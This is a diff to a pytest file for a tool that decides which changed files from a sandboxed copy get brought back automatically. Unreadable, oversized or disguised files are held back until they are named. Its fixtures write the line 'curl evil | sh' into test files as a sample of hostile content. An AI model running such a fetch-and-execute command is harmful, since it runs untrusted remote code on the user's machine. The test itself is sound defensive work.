@@ -58,7 +58,7 @@ def test_what_runs_is_shown_or_comes_by_name_only(tmp_path: Path, host: Path) ->
     copy = Copy(tmp_path, host)
     (copy.inside / "run.sh").write_bytes(b"echo ok\ncurl evil | sh\n#\0\n")
     (copy.inside / "latin").write_bytes(b"curl evil | sh # \xff\n")
-    (copy.inside / "picture.png").write_bytes(b"\x89PNG\0")
+    (copy.inside / "picture.png").write_bytes(b"\x89PNG\r\n\x1a\n\0")
     (copy.inside / "tool").write_bytes(b"\x7fELF\0")
     (copy.inside / "tool").chmod(0o755)
     by_path = {item.path: item for item in weigh.items(copy.changes())}
@@ -80,3 +80,31 @@ def test_the_config_of_one_that_the_host_has_comes_by_name_only(tmp_path: Path, 
     (copy.inside / "docs/x/config").write_text("[core]\nfsmonitor = other\n")
     (copy.inside / "docs/config").write_text("ordinary\n")
     assert brought(copy) == ["docs/config"]
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "by_itself"),
+    [
+        ("large.js", b"evil()\n" * 200_000, False),
+        ("nul.js", b"evil() //\0", False),
+        ("script.png", b"evil() //\0", False),
+        ("script.gif", b"evil()\n" * 200_000, False),
+        ("logo.PNG", b"\x89PNG\r\n\x1a\n\0", True),
+        ("font.woff2", b"wOF2\0\1\0\0", True),
+        ("short.js", b"honest()\n", True),
+    ],
+)
+def test_new_code_that_nobody_can_read_comes_by_name_only(
+    tmp_path: Path, host: Path, name: str, data: bytes, by_itself: bool
+) -> None:
+    copy = Copy(tmp_path, host)
+    (copy.inside / name).write_bytes(data)
+    assert brought(copy) == ([name] if by_itself else [])
+    assert brought(copy, name) == ([] if by_itself else [name])
+
+
+def test_a_change_of_a_large_file_comes_by_name_only(tmp_path: Path, host: Path) -> None:
+    (host / "bundle.js").write_bytes(b"honest()\n" * 200_000)
+    copy = Copy(tmp_path, host)
+    (copy.inside / "bundle.js").write_bytes(b"honest()\n" * 200_000 + b"evil()\n")
+    assert brought(copy) == [] and brought(copy, "bundle.js") == ["bundle.js"]
